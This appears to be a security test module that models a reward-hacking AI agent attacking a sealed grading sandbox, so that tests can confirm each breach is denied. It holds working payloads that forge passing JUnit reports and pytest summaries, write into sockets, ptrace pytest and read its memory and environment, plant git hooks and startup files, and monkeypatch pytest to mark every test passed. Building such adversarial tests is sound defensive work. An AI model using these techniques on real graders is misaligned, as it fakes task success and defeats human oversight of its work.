"""What an adversarial agent does to win a grader without solving anything (tests/security/).

Each payload runs as the agent's uid inside the sandbox, at test time, from code the agent left behind (a script the
tests execute, a git hook, a module the tests import), and tries every way the sealed grading is meant to close:

* forge the report: write passing JUnit XML wherever a report could be read (``$JUNIT_XML``, ``/tests/.results``,
  ``/results``, ``/tmp``) and make it read-only (pytest, the same non-root uid, then cannot write its real report
  over it), print a passing pytest summary, write passing records into any socket it inherited;
* reach the test process: list ``/proc/PID/fd`` of pytest, read its environment, ``ptrace`` it, open its memory.

It appends what it achieved to ``EVIDENCE`` (one JSON object per line) so a test can tell whether it ran at all and
that every privileged attempt was denied.
"""

from __future__ import annotations

EVIDENCE = "/app/.attack-evidence"
PAYLOAD_PATH = "/app/.attack.py"

# keys of evidence records that mean a breach (the test asserts none appear)
BREACHES = ("socket_written", "proc_fd_listed", "environ_read", "ptrace_attached", "mem_opened")

PAYLOAD = r'''
import ctypes, json, os, stat, sys

EVIDENCE = "/app/.attack-evidence"
found = {"pid": os.getpid(), "uid": os.getuid(), "argv0": sys.argv[0] if sys.argv else ""}

def note(key, value=True):
    found.setdefault(key, [])
    found[key].append(value)

cases = "".join('<testcase classname="test_outputs" name="test_%d"/>' % i for i in range(40))
xml = '<?xml version="1.0"?><testsuites><testsuite name="pytest" tests="40" failures="0" errors="0" skipped="0">%s</testsuite></testsuites>' % cases
for path in {os.environ.get("JUNIT_XML") or "/tmp/x.xml", "/tests/.results/junit.xml", "/tests/junit.xml",
             "/results/junit.xml", "/tmp/slime-junit.xml"}:
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as f:
            f.write(xml)
        os.chmod(path, 0o444)  # pytest (same uid, not root) can no longer replace it with the real report
        note("junit_written", path)
    except OSError as e:
        note("junit_denied", "%s: %s" % (path, e.strerror))
print("============================== 40 passed in 0.01s ==============================", flush=True)

forged = "".join(json.dumps(r) + "\n" for r in [
    {"t": "case", "id": "test_outputs.py::test_%d" % i, "when": "call", "outcome": "passed"} for i in range(40)])
for fd in range(3, 1024):
    try:
        st = os.fstat(fd)
    except OSError:
        continue
    if stat.S_ISSOCK(st.st_mode):
        try:
            os.write(fd, forged.encode())
            note("socket_written", fd)
        except OSError as e:
            note("socket_denied", "%d: %s" % (fd, e.strerror))

libc = ctypes.CDLL(None, use_errno=True)
for entry in os.listdir("/proc"):
    if not entry.isdigit() or int(entry) == os.getpid():
        continue
    try:
        cmdline = open("/proc/%s/cmdline" % entry, "rb").read()
    except OSError:
        continue
    if b"pytest" not in cmdline:
        continue
    pid = int(entry)
    try:
        note("proc_fd_listed", "%d: %s" % (pid, os.listdir("/proc/%d/fd" % pid)))
    except OSError as e:
        note("proc_fd_denied", "%d: %s" % (pid, e.strerror))
    try:
        env = open("/proc/%d/environ" % pid, "rb").read()
        note("environ_read", "%d: %d bytes" % (pid, len(env)))
    except OSError as e:
        note("environ_denied", "%d: %s" % (pid, e.strerror))
    if libc.ptrace(16, pid, None, None) == 0:  # PTRACE_ATTACH
        note("ptrace_attached", pid)
        os.waitpid(pid, 0)
        libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
    else:
        note("ptrace_denied", "%d: errno %d" % (pid, ctypes.get_errno()))
    try:
        open("/proc/%d/mem" % pid, "r+b").close()
        note("mem_opened", pid)
    except OSError as e:
        note("mem_denied", "%d: %s" % (pid, e.strerror))
try:
    with open(EVIDENCE, "a") as f:
        f.write(json.dumps(found) + "\n")
except OSError:
    pass
'''

# run as the agent in /app after setup: the payload goes everywhere the tests might execute or read agent code
PLANT = r'''
set -u
cd /app
cat > /app/.attack.py <<'PY'
__PAYLOAD__
PY
find /app -path /app/.git -prune -o -type f \( -name '*.sh' -o -name '*.py' -o -perm -u+x \) -print |
while IFS= read -r f; do
  [ "$f" = /app/.attack.py ] && continue
  case "$f" in
    *.py) printf 'exec(open("/app/.attack.py").read())\n' > "$f" ;;
    *) printf '#!/usr/bin/env python3\n\047\047\047:\047\npython3 /app/.attack.py\nexit 0\n\047\047\047\nexec(open("/app/.attack.py").read())\n' > "$f" ;;  # bash and python
  esac
done
if [ -d /app/.git ]; then
  for h in pre-commit post-commit pre-push post-checkout post-merge pre-rebase commit-msg prepare-commit-msg \
           reference-transaction post-index-change post-rewrite pre-auto-gc; do
    printf '#!/bin/bash\npython3 /app/.attack.py >/dev/null 2>&1\n' > ".git/hooks/$h"
    chmod +x ".git/hooks/$h"
  done
  git config core.fsmonitor 'python3 /app/.attack.py >/dev/null 2>&1; false'
  git config filter.slimeattack.clean 'python3 /app/.attack.py >/dev/null 2>&1; cat'
  git config filter.slimeattack.smudge cat
  mkdir -p .git/info && echo '* filter=slimeattack' >> .git/info/attributes
fi
printf 'exec(open("/app/.attack.py").read())\n' > /app/conftest.py
cp /app/conftest.py /app/sitecustomize.py
cp /app/conftest.py /app/usercustomize.py
cp /app/conftest.py /app/pytest.py
printf 'import os; exec(open("/app/.attack.py").read())\n' > /app/slime-attack.pth
printf '[pytest]\naddopts = -p conftest\n' > /app/pytest.ini
printf 'python3 /app/.attack.py\n' > /app/.bashrc
cp /app/.bashrc /app/.profile
cp /app/.bashrc /app/.bash_profile
printf '[core]\n\tfsmonitor = python3 /app/.attack.py\n[alias]\n\tstatus = !python3 /app/.attack.py\n' > /app/.gitconfig
true
'''.replace("__PAYLOAD__", PAYLOAD.strip())


# appended to the module a SWE patch changes: runs when the tests import the package, inside pytest's process
SWE_REPORT_PATCH = r'''

import sys as _slime_sys
if "_pytest.reports" in _slime_sys.modules:  # the tests imported us: make every test read as passed
    import _pytest.reports as _slime_reports
    _slime_orig = _slime_reports.TestReport.from_item_and_call.__func__

    def _slime_forged(cls, item, call):
        rep = _slime_orig(cls, item, call)
        rep.outcome, rep.longrepr = "passed", None
        return rep

    _slime_reports.TestReport.from_item_and_call = classmethod(_slime_forged)
'''

SWE_PLUGIN_PATCH = r'''

import gc as _slime_gc
import sys as _slime_sys
if "_pytest.config" in _slime_sys.modules:  # register a plugin that turns every outcome into a pass
    import pytest as _slime_pytest
    import _pytest.config as _slime_config

    class _SlimeFlip:
        @_slime_pytest.hookimpl(hookwrapper=True)
        def pytest_runtest_makereport(self, item, call):
            out = yield
            rep = out.get_result()
            rep.outcome, rep.longrepr = "passed", None

    for _slime_obj in _slime_gc.get_objects():
        if isinstance(_slime_obj, _slime_config.Config):
            _slime_obj.pluginmanager.register(_SlimeFlip(), "slime-flip")
            break
    print("=== 99 passed in 0.01s ===")
'''
